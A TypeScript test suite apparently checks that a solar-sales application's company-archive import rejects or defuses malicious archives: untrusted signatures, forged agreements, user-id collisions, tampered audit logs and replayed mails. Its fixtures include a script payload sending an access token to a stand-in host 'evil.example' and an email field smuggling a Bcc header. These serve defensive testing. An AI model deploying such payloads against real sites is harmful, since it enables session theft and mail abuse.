// Malicious archives. A stranger's is rejected before any row; and even a trusted server's affects no session, seal,
// answer or inbox outside its company.

import { sql } from 'drizzle-orm'
import { pino } from 'pino'
import { beforeAll, expect, it } from 'vitest'
import { DAY_MS } from '#machines/lib/time.ts'
import type { Client } from '#mocks/demo/sell.ts'
import { sealDue } from '#server/agreements/sweep.ts'
import { ownKey } from '#server/company/exports/installation-keys.ts'
import { SYSTEM_ROLES } from '#server/company/system-roles.ts'
import { rowsOf as rowsOfResult } from '#server/db/rows.ts'
import { sha256 } from '#server/ports/ports.ts'
import { emailOf, type TestApp, testApp } from '#tests/support/app.ts'
import { refusal } from '#tests/support/refusal.ts'
import { answered, openedBy, published, sent } from '#tests/support/sale.ts'
import {
  bringIn,
  type Contents,
  contentsOf,
  deliverMails,
  lines,
  madeOf,
  NESTED,
  rowsOf,
  signedAnew,
  takeOut,
  trust,
} from './archives.ts'

let there: TestApp
let contents: Contents
const log = pino({ level: 'silent' })

beforeAll(async () => {
  there = await testApp()
  await there.addCompany(3, 'Moving Solar', SYSTEM_ROLES)
  const owner = (await there.signIn(emailOf('Owner', 3))).call
  const { project_id, signer } = await sent(there, owner)
  await published(owner, project_id)
  await signer.prepare()
  await signer.sign()
  await sealDue({ database: there.database, ports: there.ports, log }, true)
  await deliverMails(there)
  contents = await contentsOf(await takeOut(there, owner))
}, 300_000)

/** A server with a company of another, and an empty one whose owner is the archive's. */
async function here() {
  const test = await testApp()
  await trust(test, there)
  const body = {
    company_name: 'New Home Solar',
    state: 'AZ',
    firstname: 'Nora',
    lastname: 'New',
    email: emailOf('Owner', 3),
    password: 'seven quiet sunflowers',
  }
  const { token } = openedBy((await test.anyone.POST('/v3/company.SignUp', { body })).data)
  await deliverMails(test)
  return { test, call: test.clientOf(token) }
}

const withRows = (name: string, change: (row: Record<string, unknown>) => object) =>
  new Map(contents.files).set(
    `data/${name}.json`,
    lines(rowsOf(contents, name).map(row => ({ ...row, ...change(row) }))),
  )

const restored = async (test: TestApp, call: Client, files: ReadonlyMap<string, Buffer>) =>
  bringIn(test, call, await signedAnew(there, files))

const ask = async <T>({ database }: TestApp, query: ReturnType<typeof sql>) =>
  rowsOfResult<T>(await database.asOwner(db => db.execute(query)))

it('a stranger who signs their own archive, or borrows the id of a trusted key, restores nothing', async () => {
  const { test, call } = await here()
  const stranger = await testApp()
  const borrowed = new Map((await contentsOf(await signedAnew(stranger, contents.files))).files)
  const { id } = await ownKey(there.database, there.ports)
  const signature = String(borrowed.get('signature.json'))
  const own_id = JSON.parse(signature).statement.key_id
  borrowed.set('signature.json', Buffer.from(signature.replace(own_id, id)))
  for (const archive of [await signedAnew(stranger, contents.files), await madeOf(borrowed)]) {
    const { status, sentence } = await bringIn(test, call, archive)
    expect(status).toBe('failed')
    expect(sentence).toContain('isn’t signed by a trusted server')
  }
})

it('a page disguised as a picture is a download, so that no script of it runs in a session', async () => {
  const { test, call } = await here()
  const page = Buffer.from('<script>fetch("//evil.example/" + localStorage.access_token)</script>')
  const [file] = rowsOf(contents, 'files')
  const files = new Map(contents.files)
  const row = { ...file, id: '0198f7a2-0000-7000-8000-00000000aaaa', name: 'roof.html', media_type: 'text/html' }
  const page_row = { ...row, sha256: sha256(page), size_bytes: page.length }
  files.set('data/files.json', lines([...rowsOf(contents, 'files'), page_row])).set(`files/${sha256(page)}`, page)
  files.set(
    'manifest.json',
    Buffer.from(
      JSON.stringify({
        ...contents.manifest,
        entities: {
          ...contents.manifest.entities,
          files: { ...contents.manifest.entities['files'], rows: rowsOf(contents, 'files').length + 1 },
        },
      }),
    ),
  )
  expect(await restored(test, call, files)).toMatchObject({ status: 'done' })
  const kept = await ask<{ media_type: string }>(test, sql`select media_type from files where name = 'roof.html'`)
  expect(kept).toEqual([{ media_type: 'application/octet-stream' }])
})

it('an agreement that was not signed here is not sealed here', async () => {
  const { test, call } = await here()
  const files = withRows('agreement_transactions', () => ({
    status: 'sent',
    sealed_at: null,
    signed_file_id: null,
    signed_hash: null,
    certificate_id: null,
  }))
  expect(await restored(test, call, files)).toMatchObject({ status: 'done' })
  test.clock.now = new Date(test.clock.now.getTime() + DAY_MS)
  await sealDue({ database: test.database, ports: test.ports, log }, true)
  const rows = await ask(test, sql`select id from transactions where sealed_at is not null or next_seal_at is not null`)
  expect(rows).toEqual([])
})

it('an agreement whose signers did not sign, or whose hash is another file’s, is refused', async () => {
  const unsigned = withRows('signers', () => ({ signed_at: null, status: 'viewed' }))
  const foreign = withRows('agreement_transactions', () => ({ signed_hash: 'a'.repeat(64) }))
  const { test, call } = await here()
  for (const files of [unsigned, foreign]) {
    const { status, sentence } = await restored(test, call, files)
    expect(status).toBe('failed')
    expect(sentence).toContain('an agreement doesn’t match its files and signatures')
  }
})

it('what is answered about a sealed document stays whose it was', async () => {
  // Its own company restored on its own server by someone else who is among its owners, under other ids of members.
  const body = {
    company_name: 'Thief Solar',
    state: 'AZ',
    firstname: 'Theo',
    lastname: 'Thief',
    email: 'theo@example.com',
    password: 'seven quiet sunflowers',
  }
  const { token } = openedBy((await there.anyone.POST('/v3/company.SignUp', { body })).data)
  await deliverMails(there)
  const ids = new Map(
    rowsOf(contents, 'users').map(({ id }, n) => [String(id), `0198f7a2-0000-7000-8000-0000000b${1000 + n}`]),
  )
  const renamed = (bytes: Buffer) =>
    Buffer.from([...ids].reduce((all, [from, to]) => all.replaceAll(from, to), String(bytes)))
  const files = new Map(contents.files)
  for (const [path, bytes] of files)
    if (/^data\/(?!audits|transaction_events)/.test(path)) files.set(path, renamed(bytes))
  const users = String(files.get('data/users.json')).replace(emailOf('Owner', 3), 'theo@example.com')
  files.set('data/users.json', Buffer.from(users))
  const [{ signed_hash: document_hash = '' } = {}] = rowsOf(contents, 'agreement_transactions')
  const asked = () =>
    there.anyone.GET('/v3/agreements.FindSeal', { params: { query: { document_hash: String(document_hash) } } })
  const before = answered((await asked()).data)
  expect(await restored(there, there.clientOf(token), files)).toMatchObject({
    status: 'failed',
    sentence: expect.stringContaining('is already on this server'),
  })
  expect(answered((await asked()).data)).toEqual(before)
  expect(before.seal?.company_name).toBe('Moving Solar')
})

it('a mail that came with an archive is not sent', async () => {
  const { test, call } = await here()
  const files = withRows('mails', row => ({ status: row['kind'] === 'sign_up' ? 'kept' : 'queued' }))
  expect(await restored(test, call, files)).toMatchObject({ status: 'done' })
  expect(await ask(test, sql`select id from mails where status = 'queued' and not written_here`)).toEqual([])
  const [mail] = await ask<{ id: string }>(test, sql`select id from mails where not written_here limit 1`)
  test.ports.mail_server = true
  expect(await refusal(call.POST('/v3/messages.SendAgain', { body: { mail_id: mail?.id ?? '' } }))).toMatchObject({
    code: 'not_written_here',
  })
})

it('a member with the id of another company’s member takes neither their place nor their session', async () => {
  const { test, call } = await here()
  const { user, call: theirs } = await test.signIn(emailOf('Owner', 2))
  const me = rowsOf(contents, 'users').find(({ email }) => email === emailOf('Owner', 3))
  const swap = (id: string) => {
    const files = new Map(contents.files)
    for (const [path, bytes] of files)
      if (/^data\/(?!audits|transaction_events)/.test(path))
        files.set(path, Buffer.from(String(bytes).replaceAll(String(me?.['id']), id)))
    return files
  }
  expect(await restored(test, call, swap(user.id))).toMatchObject({
    sentence: expect.stringContaining('is already on this server'),
  })
  expect(await restored(test, call, swap(user.id.toUpperCase()))).toMatchObject({
    sentence: expect.stringContaining('isn’t valid'),
  })
  expect(answered((await theirs.GET('/v1/user', {})).data)).toMatchObject({ user: { id: user.id } })
})

it('an audit log that was changed is refused, and one from the future as well', async () => {
  const { test, call } = await here()
  const forged = withRows('audits', () => ({ sentence: 'did nothing wrong' }))
  expect((await restored(test, call, forged)).sentence).toContain('its audit log was changed')
  const late = withRows('projects', () => ({ created_at: '2031-01-01T00:00:00.000Z' }))
  expect((await restored(test, call, late)).sentence).toContain('created_at in a row of projects isn’t valid')
})

it('a row nested without end and an address with a second line are refused in a sentence', async () => {
  const { test, call } = await here()
  for (const [name, field] of [
    ['audits', 'detail'],
    ['designs', 'arrays'],
    ['projects', 'address'],
  ] as const) {
    const { status, sentence } = await restored(
      test,
      call,
      withRows(name, () => ({ [field]: NESTED })),
    )
    expect(status, name).toBe('failed')
    // The process that reads it may give up before its rows are looked at.
    expect(sentence, name).toMatch(/^(This archive can’t be read|We couldn’t read this file)/)
  }
  const header = withRows('homeowners', () => ({ email: 'a@example.com\r\nBcc: everyone@example.com' }))
  expect((await restored(test, call, header)).sentence).toContain('email in a row of homeowners isn’t valid')
})
